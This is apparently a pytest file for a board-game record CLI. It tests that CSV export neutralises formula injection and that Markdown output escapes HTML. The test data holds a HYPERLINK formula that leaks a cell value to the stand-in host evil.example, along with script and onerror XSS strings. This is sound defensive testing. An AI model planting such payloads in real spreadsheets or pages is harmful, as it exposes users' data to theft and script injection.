"""Record text in CSV and Markdown output is data, never a formula or markup (issue 33:
items 4 and 14)."""

from __future__ import annotations

import csv
import io

import pytest

from burgundy_cli.archive.output import markdown
from burgundy_cli.core.csvrows import csv_row
from tests.conftest import RECORDS

RECORD = RECORDS / "robber-knights" / "playout-2-players.toml"
PLACE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVENT = "-2+3"


def test_text_cells_are_neutralised_and_numbers_kept() -> None:
    assert csv_row(["=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "plain", -3, -2.5, 0, None]) == \
        "'=1+1,'+1,'-x,'@SUM(A1),'\tx,\"'\rx\",plain,-3,-2.5,0,\n"
    assert csv_row(['a"b', "a,b", "a\nb", "a\rb"]) == '"a""b","a,b","a\nb","a\rb"\n'


@pytest.fixture
def hostile(tmp_path):
    text = RECORD.read_text().replace('notes = "', f'place = {PLACE!r}\nevent = "-2+3"\nnotes = "', 1)
    path = tmp_path / "game.toml"
    path.write_text(text)
    return path


def test_export_csv_neutralises_record_text(cli, hostile) -> None:
    result = cli("export", "csv", str(hostile))
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert len(rows) == 2
    assert {row["place"] for row in rows} == {"'" + PLACE}
    assert {row["event"] for row in rows} == {"'" + EVENT}
    assert all(row["score"].lstrip("-").isdigit() for row in rows)


def test_stats_csv_neutralises_record_text(cli, hostile, tmp_path) -> None:
    result = cli("stats", str(hostile.parent), "--db", str(tmp_path / "a.db"), "--by", "place", "--csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert rows and {row["place"] for row in rows} == {"'" + PLACE}


def test_stats_markdown_escapes_record_text() -> None:
    player = {"name": "<script>alert(1)</script> <img src=x onerror=alert(2)> **x** a|b", "played": 1,
              "wins": 1, "won_alone": 1, "tied_first": 0, "win_rate": 1.0, "average": -3.5, "best": 10, "average_rank": 1.0, "categories": {}}
    result = {"games": 1, "in_progress": 0, "splits": ["place"],
              "standings": [{"game": "robber-knights", "split": {"place": "<b>club</b>"}, "complete": 1,
                             "in_progress": 0, "players": [player]}]}
    text = markdown(result)
    assert "<script>" not in text and "<img" not in text and "<b>" not in text and "**x**" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text and "\\*\\*x\\*\\*" in text and "a\\|b" in text
    assert "| -3.5 |" in text
